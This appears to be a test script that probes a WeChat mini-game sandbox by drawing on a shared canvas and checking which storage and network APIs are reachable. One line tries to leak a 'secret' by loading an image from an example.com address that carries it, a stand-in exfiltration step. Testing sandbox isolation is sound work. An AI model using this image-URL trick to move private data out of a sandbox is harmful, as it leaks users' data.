/** Draws something that only this domain knows, then tries to carry it out. */
const shared = wx.getSharedCanvas();
const context = shared.getContext('2d');
context.fillStyle = '#123456';
context.fillRect(0, 0, shared.width, shared.height);

const picture = wx.createImage();
picture.onload = () => console.log('open, a picture with data in its address: OPEN');
picture.onerror = () => console.log('open, a picture with data in its address: refused');
picture.src = 'https://example.com/secret-123456';
console.log(
  `open, storage and network: ${['setStorage', 'request', 'connectSocket', 'getFileSystemManager', 'downloadFile', 'uploadFile'].filter((name) => wx[name] !== undefined).join() || 'refused'}`,
);
